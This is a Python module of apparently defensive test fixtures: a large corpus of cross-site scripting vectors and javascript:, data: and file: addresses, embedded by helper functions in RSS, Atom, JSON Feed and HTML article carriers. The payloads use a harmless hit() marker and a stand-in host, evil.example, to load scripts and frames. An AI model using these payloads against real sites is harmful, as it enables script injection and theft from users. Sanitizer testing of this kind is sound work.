"""Markup and addresses that run a script or call a stranger where a page lets them, and the feeds and pages with them.

In each, `HIT` stands for a call that tells that it ran, `EVIL` for an address of another origin.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html import escape
from itertools import count

STRANGER = "https://evil.example"
WORDS = "<p>The council met on Monday and agreed to mend the old quay before the winter, at a cost of two million.</p>"

# --- Markup ------------------------------------------------------------------------------------------------------

ELEMENTS = r"""
<script>HIT</script>
<SCRIPT>HIT</SCRIPT>
<script/x>HIT</script>
<script src=EVIL></script>
<script type=module>HIT</script>
<script>HIT
<scr<script>ipt>HIT</script>
<<script>HIT</script>
</title><script>HIT</script>
</textarea><script>HIT</script>
</style><script>HIT</script>
</script><script>HIT</script>
--><script>HIT</script>
]]><script>HIT</script>
]]&gt;<script>HIT</script>
<![CDATA[<script>HIT</script>]]>
<!--><script>HIT</script>-->
<!--[if true]><script>HIT</script><![endif]-->
<!--!><script>HIT</script>-->
<!---><img src=x onerror=HIT>-->
<?xml-stylesheet href="javascript:HIT"?><script>HIT</script>
<?import namespace="x" implementation="EVIL"?>
<img src=x onerror=HIT>
<img src=x onerror="HIT">
<IMG SRC=x OnErRoR=HIT>
<img/src=x/onerror=HIT>
<img src="x" onerror&#61;HIT>
<img src=EVIL>
<img srcset=EVIL>
<img src=x:alert(1) onerror=eval(alt) alt=HIT>
<img src="x` `<script>HIT</script>"` `>
<picture><source srcset=EVIL><img src=x onerror=HIT></picture>
<image src=x onerror=HIT>
<input type=image src=x onerror=HIT>
<input autofocus onfocus=HIT>
<select autofocus onfocus=HIT></select>
<textarea autofocus onfocus=HIT></textarea>
<button onclick=HIT>x</button>
<a onclick=HIT>x</a>
<a href=# onmouseover=HIT>x</a>
<p tabindex=0 autofocus onfocus=HIT>x
<div contenteditable autofocus onfocus=HIT>x</div>
<body onload=HIT>
<body onpageshow=HIT>
<body background=EVIL>
<html onmouseover=HIT>
<details open ontoggle=HIT>x</details>
<audio src=x onerror=HIT></audio>
<audio src=EVIL autoplay></audio>
<video><source onerror=HIT></video>
<video poster=EVIL src=EVIL></video>
<video src=x onerror=HIT></video>
<track src=EVIL>
<iframe src="javascript:HIT"></iframe>
<iframe srcdoc="<script>parent.HIT</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.HIT&lt;/script&gt;"></iframe>
<iframe src=EVIL></iframe>
<iframe onload=HIT></iframe>
<frameset onload=HIT>
<frameset><frame src="javascript:HIT"></frameset>
<object data="javascript:HIT"></object>
<object data=EVIL></object>
<object onerror=HIT data=x></object>
<embed src=EVIL>
<embed src="javascript:HIT">
<applet code=EVIL onerror=HIT></applet>
<form action="javascript:HIT"><button>x</button></form>
<form action=EVIL><button>x</button></form>
<form><button formaction="javascript:HIT">x</button></form>
<isindex type=image src=x onerror=HIT>
<meta http-equiv=refresh content="0;url=EVIL">
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv=set-cookie content="a=b">
<base href="EVIL/">
<base target=_blank href="javascript:HIT//">
<link rel=stylesheet href=EVIL>
<link rel=prefetch href=EVIL>
<link rel=import href=EVIL onload=HIT>
<link rel=icon href=EVIL>
<style>@import 'EVIL';</style>
<style>body{background:url(EVIL)}</style>
<style>*{x:expression(HIT)}</style>
<style onload=HIT></style>
<p style="background:url(EVIL)">x</p>
<p style="background-image:url('EVIL')">x</p>
<p style="width:expression(HIT)">x</p>
<p style="-moz-binding:url(EVIL)">x</p>
<p style="behavior:url(EVIL)">x</p>
<p style="animation:x" onanimationstart=HIT>x</p><style>@keyframes x{}</style>
<marquee onstart=HIT>x</marquee>
<keygen autofocus onfocus=HIT>
<bgsound src="javascript:HIT">
<layer src=EVIL></layer>
<xss onpointerrawupdate=HIT style=display:block>x</xss>
<xss id=x tabindex=1 autofocus onfocus=HIT></xss>
<x onclick=HIT contenteditable>x
<dialog open onclose=HIT><form method=dialog><button>x</button></form></dialog>
<table background=EVIL><td background=EVIL>x</table>
<input type=hidden popover onbeforetoggle=HIT>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=HIT>x
<svg onload=HIT></svg>
<svg/onload=HIT>
<svg><script>HIT</script></svg>
<svg><script>HIT&#10;</script>
<svg><script xlink:href=EVIL></script></svg>
<svg><script href="data:text/javascript,HIT"></script></svg>
<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:HIT" /><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=HIT></svg>
<svg><animate onbegin=HIT attributeName=x dur=1s></svg>
<svg><image href=EVIL></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><script>HIT</script></svg>#x"></use></svg>
<svg><foreignObject><iframe src="javascript:HIT"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=HIT></style></svg>
<svg><title><style></title></style><img src=x onerror=HIT></svg>
<svg></p><style><a id="</style><img src=x onerror=HIT>">
<svg><desc><table><thead><s>x</s></thead></table><style><!--</style><img src=x onerror=HIT>--></style></desc></svg>
<svg><p><style><a id="</style><img src=x onerror=HIT>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=HIT>
<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=HIT>">
<math><mi><mglyph><style><img src=x onerror=HIT>
<math href="javascript:HIT">x</math>
<math><maction actiontype="statusline#EVIL" xlink:href="javascript:HIT">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>
<noscript><p title="</noscript><img src=x onerror=HIT>">
<noscript><style></noscript><img src=x onerror=HIT></style>
<noembed><img title="</noembed><img src=x onerror=HIT>">
<noframes><p title="</noframes><img src=x onerror=HIT>">
<xmp><p title="</xmp><img src=x onerror=HIT>">
<plaintext><script>HIT</script>
<listing>&lt;img src=x onerror=HIT&gt;</listing>
<template><script>HIT</script></template>
<template shadowrootmode=open><img src=x onerror=HIT></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=HIT>">
<title><a id="</title><img src=x onerror=HIT>">
<style><a id="</style><img src=x onerror=HIT>">
<textarea><a id="</textarea><img src=x onerror=HIT>">
<a id="<!--"></a><img src=x onerror=HIT><!-- -->
<p id="</p><img src=x onerror=HIT>">x</p>
<a title="<img src=x onerror=HIT>">x</a>
<table><tr><td><a><table></a><img src=x onerror=HIT>
<a href="x"><form><a><table><caption><img src=x onerror=HIT></table>
&lt;script&gt;HIT&lt;/script&gt;
&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;
&#60;script&#62;HIT&#60;/script&#62;
&#x3c;img src=x onerror=HIT&#x3e;
&#60img src=x onerror=HIT&#62
&LT;img src=x onerror=HIT&GT;
%3Cscript%3EHIT%3C/script%3E
\u003cscript\u003eHIT\u003c/script\u003e
+ADw-script+AD4-HIT+ADw-/script+AD4-
"><script>HIT</script>
'><script>HIT</script>
"><img src=x onerror=HIT>
" onmouseover="HIT
' onmouseover='HIT
` onmouseover=`HIT
" autofocus tabindex=0 onfocus=HIT x="
"/><svg onload=HIT>
</a><script>HIT</script>
</p></article></main></body></html><script>HIT</script>
{{constructor.constructor('HIT')()}}
{% raw %}<script>HIT</script>{% endraw %}
${HIT}
javascript:HIT
"}</script><script>HIT</script>
","x":"</script><script>HIT</script>
]]></content><content type="html">&lt;script&gt;HIT&lt;/script&gt;
]]></description><script xmlns="http://www.w3.org/1999/xhtml">HIT</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">HIT</x:script>
<script xmlns="http://www.w3.org/1999/xhtml">HIT</script>
<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="HIT"/>
<xsl:script xmlns:xsl="http://www.w3.org/1999/XSL/Transform">HIT</xsl:script>
<img src=x onerror=HIT //
<img src=x onerror=HIT <p>
<b <script>HIT</script>
<p/onmouseover=HIT/>x
""".strip().split("\n")
MARKUP = [
    *ELEMENTS,
    "<img src=x one rror=HIT onerror\n=HIT>",
    "<im\0g src=x onerror=HIT>",
    "<img src=x \0onerror=HIT>",
    "<img src=x\x0conerror=HIT>",
    "<img src=x\x0bonerror=HIT>",
    "<img\u2028src=x\u2029onerror=HIT>",
    "<\ufeffscript>HIT</script>",
    "\ufeff<script>HIT</script>",
    "<script\x85>HIT</script>",
    "\ud83d<script>HIT</script>",
    "<b>" * 290 + "<img src=x onerror=HIT>",
    "<p " + "a " * 2000 + "><img src=x onerror=HIT>",
    "<b id=1>" * 60 + "<script>HIT</script>" + "<p>x</p>" * 200,
]
"""Markup that acts where it stands in a page as it is."""

# --- Addresses ---------------------------------------------------------------------------------------------------

ADDRESSES = [
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "javascript://x%0aHIT",
    "javascript:%48%49HIT",
    " javascript:HIT",
    "\tjavascript:HIT",
    "\njava\nscript:HIT",
    "java\tscript:HIT",
    "java\rscript:HIT",
    "javascript\t:HIT",
    "\x01javascript:HIT",
    "\x1fjavascript:HIT",
    "\0javascript:HIT",
    "java\0script:HIT",
    "\xa0javascript:HIT",
    "\ufeffjavascript:HIT",
    "\u200bjavascript:HIT",
    "javascript&colon;HIT",
    "javascript&#58;HIT",
    "javascript&#x3a;HIT",
    "javascript&#0000058HIT",
    "&#106;avascript:HIT",
    "&#x6A&#x61vascript:HIT",
    "java&Tab;script:HIT",
    "java&NewLine;script:HIT",
    "javascript%3AHIT",
    "javascript：HIT",
    "vbscript:HIT",
    "livescript:HIT",
    "feed:javascript:HIT",
    "view-source:javascript:HIT",
    "data:text/html,<script>parent.HIT</script>",
    "data:text/html;base64,PHNjcmlwdD5ISVQ8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>HIT</script>",
    "blob:EVIL/1",
    "filesystem:EVIL/1",
    "file:///etc/passwd",
    "about:blank#HIT",
    'https://a.example/"onmouseover=HIT x="',
    "https://a.example/'onmouseover=HIT x='",
    'https://a.example/"><script>HIT</script>',
    "https://a.example/</script><script>HIT</script>",
    "https://a.example/`onmouseover=HIT",
    "https://javascript:HIT@a.example/",
    '//a.example/" autofocus onfocus=HIT x="',
    '#" autofocus onfocus=HIT x="',
    "x onerror=HIT",
]
"""Addresses that act, or break out of their attribute."""
VECTORS = [*MARKUP, *ADDRESSES, *(f'<a href="{escape(each)}">x</a><img src="{escape(each)}">' for each in ADDRESSES)]

Arm = Callable[[], str]
"""Returns a vector whose script or address bears a number of its own."""


class Arming:
    """Arms vectors, one number each."""

    def __init__(self) -> None:
        self.numbers = count(1)

    def armed(self, vector: str) -> str:
        number = next(self.numbers)
        return vector.replace("HIT", f"hit({number})").replace("EVIL", f"{STRANGER}/{number}")


# --- Carriers ----------------------------------------------------------------------------------------------------


def rss(arm: Arm) -> bytes:
    """Return an RSS feed of one item with a vector in eleven places."""

    def put() -> str:
        return escape(arm())

    return (
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>{put()}</title><link>{put()}</link><item><title><![CDATA[{arm()}]]></title>"
        f"<dc:creator>{put()}</dc:creator><category>{put()}</category><link>{put()}</link><guid>{put()}</guid>"
        f"<enclosure url='{put()}'/><media:content url='{put()}' medium='image'/><description>{put()}</description>"
        f"<content:encoded><![CDATA[{arm()}{WORDS}]]></content:encoded></item></channel></rss>"
    ).encode("utf-8", "surrogatepass")


def atom(arm: Arm) -> bytes:
    """Return an Atom feed of one entry with a vector in thirteen places, once as XHTML."""

    def put() -> str:
        return escape(arm())

    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">{put()}</title><entry>'
        f'<title type="html">{put()}</title><author><name>{put()}</name><uri>{put()}</uri></author>'
        f'<id>{put()}</id><link href="{put()}"/><link rel="enclosure" type="image/jpeg" href="{put()}"/>'
        f'<link rel="license" href="{put()}"/><category term="{put()}"/><rights>{put()}</rights>'
        f'<summary type="html">{put()}</summary><content type="xhtml" xml:base="{put()}">'
        f'<div xmlns="http://www.w3.org/1999/xhtml">{arm()}{WORDS}</div></content></entry></feed>'
    ).encode("utf-8", "surrogatepass")


def json_feed(arm: Arm) -> bytes:
    """Return a JSON Feed of one item with a vector in nine places."""
    item = {
        "id": arm(),
        "url": arm(),
        "image": arm(),
        "title": arm(),
        "authors": [{"name": arm()}],
        "tags": [arm()],
        "content_html": arm() + WORDS,
        "attachments": [{"url": arm(), "mime_type": "image/jpeg"}],
    }
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": arm(), "items": [item]}).encode()


def page(arm: Arm) -> bytes:
    """Return an article page with a vector in eighteen places, once as it is."""

    def put() -> str:
        return escape(arm())

    data = {"@type": "NewsArticle", "headline": arm(), "author": {"name": arm()}, "url": arm(), "image": arm()}
    told = json.dumps(data).replace("</", "<\\/")
    return (
        f'<html lang="en"><head><title>{put()}</title><link rel="canonical" href="{put()}">'
        f'<meta property="og:title" content="{put()}"><meta property="og:image" content="{put()}">'
        f'<meta name="author" content="{put()}"><meta property="article:section" content="{put()}">'
        f'<script type="application/ld+json">{told}</script></head><body><article><h1>{put()}</h1>{WORDS * 3}'
        f"<p>See <a href='{put()}'>{put()}</a>.</p><figure><img src='{put()}' alt='{put()}'><figcaption>{put()}"
        f"</figcaption></figure>{WORDS}<table><tr><th>{put()}</th><td>1</td></tr><tr><td>2</td><td>3</td></tr></table>"
        f"{WORDS}<pre><code>{put()}</code></pre>{WORDS}{arm()}{WORDS}</article></body></html>"
    ).encode("utf-8", "surrogatepass")
